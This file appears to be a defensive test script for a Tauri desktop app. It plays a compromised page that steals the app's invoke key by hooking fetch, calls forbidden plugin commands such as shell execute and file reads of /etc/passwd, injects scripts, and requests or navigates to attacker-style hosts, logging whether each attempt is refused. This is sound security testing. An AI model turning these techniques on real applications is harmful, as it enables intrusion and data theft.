// The script of a compromised page. It tries what must not succeed and records the outcomes. The test
// runs it in the real window and reads the report; it is not part of the application, so no build
// contains it.
//
// ELSEWHERE is the origin of a server that records its requests (the environment of the test).
// HOOK_COMMANDS are the commands of the isolation hook, each with the names of its arguments' checks.
const report = [];
window.attack = { report, done: false };
const internals = window.__TAURI_INTERNALS__;
const pause = (time) => new Promise((resume) => setTimeout(resume, time));
const text = (value) => (typeof value === "string" ? value : JSON.stringify(value)) ?? "undefined";
const note = (id, attack, outcome) => report.push({ id, attack, outcome: text(outcome).slice(0, 300) });

/** Longer than any machine needs for a response. */
const LAST_TIMEOUT = 120_000;

/** The outcome of a promise that may never settle. */
const settled = (promise, time = 3000) =>
  Promise.race([
    promise.then(
      (value) => `allowed: ${text(value)}`,
      (why) => `refused: ${why instanceof Error ? why.message : text(why)}`,
    ),
    pause(time).then(() => "dropped"),
  ]);
const attempt = (action) => {
  try {
    return `allowed: ${text(action())}`;
  } catch (why) {
    return `refused: ${why.message}`;
  }
};

/** Tauri's own key for calls, as a page that replaces `fetch` reads it. */
async function stolenKey() {
  const fetch = window.fetch;
  const stolen = new Promise((resolve) => {
    window.fetch = (address, options) => {
      resolve(options.headers.get("Tauri-Invoke-Key"));
      return fetch(address, options);
    };
  });
  const call = internals.invoke("settings");
  const key = await stolen;
  window.fetch = fetch;
  await call;
  return key;
}

/** A call around the isolation frame. Without its key a body cannot be encrypted. */
async function around(key, cmd, body) {
  const headers = {
    "Content-Type": "application/json",
    "Tauri-Callback": "1",
    "Tauri-Error": "2",
    "Tauri-Invoke-Key": key,
  };
  const address = internals.convertFileSrc(cmd, "ipc");
  const response = await fetch(address, { method: "POST", headers, body });
  const result = await response.text();
  if (response.headers.get("Tauri-Response") !== "ok") throw new Error(result);
  return result;
}

const FOREIGN_COMMANDS = [
  ...["emit", "emit_to", "listen", "unlisten"].map((name) => `plugin:event|${name}`),
  ...["close", "destroy", "create", "hide", "set_title", "set_fullscreen", "get_all_windows"].map(
    (name) => `plugin:window|${name}`,
  ),
  ...["create_webview", "create_webview_window", "internal_toggle_devtools", "webview_close"].map(
    (name) => `plugin:webview|${name}`,
  ),
  ...["get_current", "register", "unregister", "is_registered"].map(
    (name) => `plugin:deep-link|${name}`,
  ),
  ...["app|version", "app|app_hide", "path|resolve_directory", "image|from_path", "menu|new"].map(
    (name) => `plugin:${name}`,
  ),
  ...["tray|new", "resources|close", "opener|open_url", "opener|open_path", "shell|open"].map(
    (name) => `plugin:${name}`,
  ),
  ...["shell|execute", "fs|read_text_file", "http|fetch", "process|exit", "dialog|open"].map(
    (name) => `plugin:${name}`,
  ),
  ...["tokens", "access_token", "link", "configure", "sign_in_link", "Watch"].map(
    (name) => `plugin:scalekit|${name}`,
  ),
  ...["plugin:single-instance|x", "plugin:scalekit", "run", "present", "__proto__", ""],
];

const FORGED = {
  event: "deep-link://new-url",
  payload: ["io.latchkey.desktop://callback?code=forged&state=forged"],
  target: { kind: "Any" },
  handler: 1,
  url: "file:///etc/passwd",
  path: "/etc/passwd",
};

/** An argument that passes each check of the isolation hook. A check without one fails the attack. */
const VALID = {
  isBoolean: false,
  isChannel: "__CHANNEL__:1",
  isHint: undefined,
  isIntent: "signIn",
  isLanguage: null,
  isNumber: 1,
  isPage: "account",
  isScope: "thisComputer",
  isText: "https://acme.scalekit.com",
  isTheme: "dark",
  isZoom: 1,
};

const OWN_COMMANDS = Object.fromEntries(
  Object.entries(HOOK_COMMANDS).map(([command, checks]) => [
    command,
    Object.fromEntries(
      Object.entries(checks).map(([argument, check]) => {
        if (!(check in VALID)) throw new Error(`no valid argument for ${check}`);
        return [argument, VALID[check]];
      }),
    ),
  ]),
);

async function commands(key) {
  await Promise.all(
    FOREIGN_COMMANDS.flatMap((command) => [
      settled(internals.invoke(command, FORGED)).then((outcome) =>
        note("I4", `invoke ${command}`, outcome),
      ),
      settled(around(key, command)).then((outcome) =>
        note("I2", `${command} around the isolation frame`, outcome),
      ),
      settled(around(key, command, JSON.stringify(FORGED))).then((outcome) =>
        note("I4", `${command} around the isolation frame, with arguments`, outcome),
      ),
    ]),
  );
  await pause(100);
  const polluted = JSON.parse('{"__proto__":{"intent":"signIn"},"constructor":1}');
  const garbage = [null, [], 7, "text", NaN, new Uint8Array(9), polluted, { unknown: {} }];
  await Promise.all(
    Object.entries(OWN_COMMANDS).flatMap(([command, good]) => {
      const worse = Object.keys(good).flatMap((name) =>
        [null, NaN, 1e308, {}, [], "\u0000", "x".repeat(5000), polluted]
          .filter((value) => value !== good[name])
          .map((value) => ({ ...good, [name]: value })),
      );
      return [...garbage, ...worse, { ...good, more: 1 }].map((payload) =>
        settled(internals.invoke(command, payload)).then((outcome) =>
          note("I9", `${command} with ${text(payload).slice(0, 40)}`, outcome),
        ),
      );
    }),
  );
  for (const [command, good] of Object.entries(OWN_COMMANDS)) {
    if (Object.keys(good).length === 0) continue;
    note("I9", `${command} with nothing`, await settled(around(key, command)));
    note("I9", `${command} unsealed`, await settled(around(key, command, JSON.stringify(good))));
  }
  const huge = "a".repeat(100_000_000);
  const through = internals.invoke("check_environment", { environmentUrl: huge });
  note("I9", "a hundred megabytes", await settled(through, 10_000));
  const past = around(key, "check_environment", huge);
  note("I9", "a hundred megabytes around the isolation frame", await settled(past, 20_000));
}

/** Everything that would fetch, run or embed something; ELSEWHERE records its requests. */
async function content() {
  const violated = new Set();
  document.addEventListener("securitypolicyviolation", (event) =>
    violated.add(event.effectiveDirective || event.violatedDirective),
  );
  const element = (name, attributes, content = "") => {
    const made = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) made.setAttribute(attribute, value);
    made.textContent = content;
    document.body.append(made);
    return made;
  };
  window.ran = [];
  note("I5", "eval", attempt(() => eval("1")));
  note("I5", "new Function", attempt(() => new Function("return 1")()));
  setTimeout("ran.push('a text as a timer')");
  element("script", {}, "ran.push('inline script')");
  element("img", { src: "x:", onerror: "ran.push('inline handler')" });
  element("a", { href: "javascript:ran.push('javascript address')" }).click();
  element("iframe", { srcdoc: "<script>parent.ran.push('srcdoc')</script>" });
  element("iframe", { src: "data:text/html,<script>parent.ran.push('data frame')</script>" });
  const blob = new Blob(["ran.push('blob')"], { type: "text/javascript" });
  element("script", { src: URL.createObjectURL(blob) });
  note("I5", "worker", attempt(() => void new Worker(URL.createObjectURL(blob)).terminate()));
  element("script", { src: `${ELSEWHERE}/attack/script` });
  element("link", { rel: "stylesheet", href: `${ELSEWHERE}/attack/style` });
  element("link", { rel: "prefetch", href: `${ELSEWHERE}/attack/prefetch` });
  element("link", { rel: "manifest", href: `${ELSEWHERE}/attack/manifest` });
  element("img", { src: `${ELSEWHERE}/attack/image` });
  element("iframe", { src: `${ELSEWHERE}/attack/frame` });
  element("object", { data: `${ELSEWHERE}/attack/object` });
  element("embed", { src: `${ELSEWHERE}/attack/embed` });
  element("video", { src: `${ELSEWHERE}/attack/video` });
  element("style", {}, `body { background: url(${ELSEWHERE}/attack/background) }`);
  element("base", { href: `${ELSEWHERE}/attack/base/` });
  note("I5", "base", document.baseURI.startsWith(ELSEWHERE) ? "allowed" : "refused");
  for (const method of ["get", "post"]) {
    element("form", { action: `${ELSEWHERE}/attack/form`, method }).submit();
  }
  const wire = ELSEWHERE.replace("http", "ws");
  note("I5", "fetch", await settled(fetch(`${ELSEWHERE}/attack/fetch`)));
  note("I5", "fetch of the internet", await settled(fetch("https://example.com/attack")));
  note("I5", "fetch of a file", await settled(fetch("file:///etc/passwd")));
  note("I6", "fetch of an asset", await settled(fetch("asset://localhost/%2Fetc%2Fpasswd")));
  const xhr = new XMLHttpRequest();
  attempt(() => (xhr.open("GET", `${ELSEWHERE}/attack/xhr`), xhr.send()));
  attempt(() => new WebSocket(`${wire}/attack/socket`));
  attempt(() => new EventSource(`${ELSEWHERE}/attack/events`));
  attempt(() => navigator.sendBeacon(`${ELSEWHERE}/attack/beacon`, "a"));
  await pause(1000);
  note("I5", "scripts that are not ours", ran.length === 0 ? "refused" : `allowed: ${ran}`);
  note("I5", "what the policy refused", [...violated].sort().join(" "));
}

async function navigation() {
  const here = location.href;
  for (const address of [
    `${ELSEWHERE}/attack/navigation`,
    `${ELSEWHERE}/oauth/authorize?client_id=skc_1`,
    "http://app.evil.com/",
    "https://tauri.localhost.evil.example/",
    "http://localhost/",
    "file:///etc/passwd",
    "data:text/html,<h1>evil</h1>",
    "about:blank",
    "ipc://localhost/settings",
    "io.latchkey.desktop://callback?code=forged&state=forged",
  ]) {
    const went = attempt(() => (location.href = address));
    await pause(150);
    note("I7", `location = ${address}`, location.href === here ? `stayed (${went})` : "went");
    const link = document.createElement("a");
    Object.assign(link, { href: address, target: "_blank", textContent: "link" });
    document.body.append(link);
    link.click();
    await pause(50);
    note("I7", `link to ${address}`, location.href === here ? "stayed" : "went");
    const opened = window.open(address, "_blank");
    note("I7", `window.open ${address}`, opened === null ? "refused" : "allowed");
  }
  const file = new Blob(["evil"]);
  const link = document.createElement("a");
  Object.assign(link, { href: URL.createObjectURL(file), download: "attack-download" });
  document.body.append(link);
  link.click();
  const history = window.history;
  note("I7", "pushState", attempt(() => history.pushState({}, "", `${ELSEWHERE}/attack`)));
}

function protections() {
  const { pattern } = internals.__TAURI_PATTERN__;
  note("I6", "the pattern", pattern);
  note("I6", "the global API", typeof window.__TAURI__);
  attempt(() => (Object.prototype.polluted = "yes"));
  attempt(() => Object.setPrototypeOf(Object.prototype, { polluted: "yes" }));
  note("I6", "Object.prototype", typeof {}.polluted);
  const replaced = () => Promise.resolve("mine");
  for (const name of ["invoke", "ipc", "postMessage", "transformCallback", "runCallback"]) {
    attempt(() => (internals[name] = replaced));
    attempt(() => Object.defineProperty(internals, name, { value: replaced }));
    note("I6", `${name} replaced`, internals[name] === replaced ? "allowed" : "refused");
  }
  const frame = document.getElementById("__tauri_isolation__");
  note("I6", "the isolation frame is there", String(frame !== null));
  note("I6", "its size", String(frame.getBoundingClientRect().width));
  note("I6", "its document", text(frame.contentDocument));
  const inside = attempt(() => frame.contentWindow.__TAURI_ISOLATION_HOOK__);
  note("I6", "its hook read", inside);
  const unhooked = attempt(() => (frame.contentWindow.__TAURI_ISOLATION_HOOK__ = null));
  note("I6", "its hook removed", unhooked);
}

async function storage() {
  note("I11", "localStorage", String(localStorage.length));
  note("I11", "sessionStorage", String(sessionStorage.length));
  note("I11", "cookies", document.cookie === "" ? "none" : document.cookie);
  const databases = await (indexedDB.databases?.() ?? []);
  note("I11", "databases", String(databases.length));
  note("I11", "the title and the address", `${document.title} ${location.href}`);
}

/** Makes this many calls of a command at once, and counts the outcomes. */
async function flood(id, command, count, payload = () => ({})) {
  const began = performance.now();
  const counts = { allowed: 0, tooOften: 0, refused: 0, dropped: 0 };
  const calls = [];
  for (let number = 0; number < count; number++) {
    calls.push(
      settled(internals.invoke(command, payload(number)), LAST_TIMEOUT).then((outcome) => {
        if (outcome.includes("tooOften")) counts.tooOften++;
        else counts[outcome.split(":")[0]]++;
      }),
    );
    if (number % 500 === 499) await pause(0);
  }
  await Promise.all(calls);
  const seconds = (performance.now() - began) / 1000;
  note(id, `${count} × ${command}`, { ...counts, seconds });
}

/** Payloads that differ from call to call, or are not those of a good call. */
const FLOODS = {
  "plugin:scalekit|accept_invitation": (number) => ({ question: number }),
  "plugin:scalekit|decline_invitation": (number) => ({ question: number }),
  check_environment: (number) => ({ environmentUrl: `http://127.0.0.1:${number + 1}` }),
  set_zoom: (number) => ({ zoom: number % 2 === 0 ? 1 : 1.1 }),
};

/** Every command, those last that change what is shown at the end. */
async function floods() {
  const last = ["plugin:scalekit|sign_in", "plugin:scalekit|watch", "plugin:scalekit|dismiss"];
  for (const [command, good] of Object.entries(OWN_COMMANDS))
    if (!last.includes(command)) await flood("I10", command, 1000, FLOODS[command] ?? (() => good));
  await flood("I10", "plugin:scalekit|sign_in", 10_000, (number) => ({
    intent: number % 2 === 0 ? "signIn" : "signUp",
  }));
  await flood("I10", "plugin:scalekit|open_browser_again", 1000);
  // The driver misses elements of a zoomed page.
  await internals.invoke("set_zoom", { zoom: 1 });
  const channel = internals.transformCallback(() => {});
  await flood("I10", "plugin:scalekit|watch", 1000, () => ({ channel: `__CHANNEL__:${channel}` }));
  await flood("I10", "plugin:scalekit|dismiss", 1000);
}

(async () => {
  protections();
  await storage();
  const key = await stolenKey();
  await commands(key);
  await content();
  await navigation();
  await floods();
})()
  .catch((why) => note("X17", "the attack itself", `failed: ${why.stack ?? why}`))
  .finally(() => (window.attack.done = true));
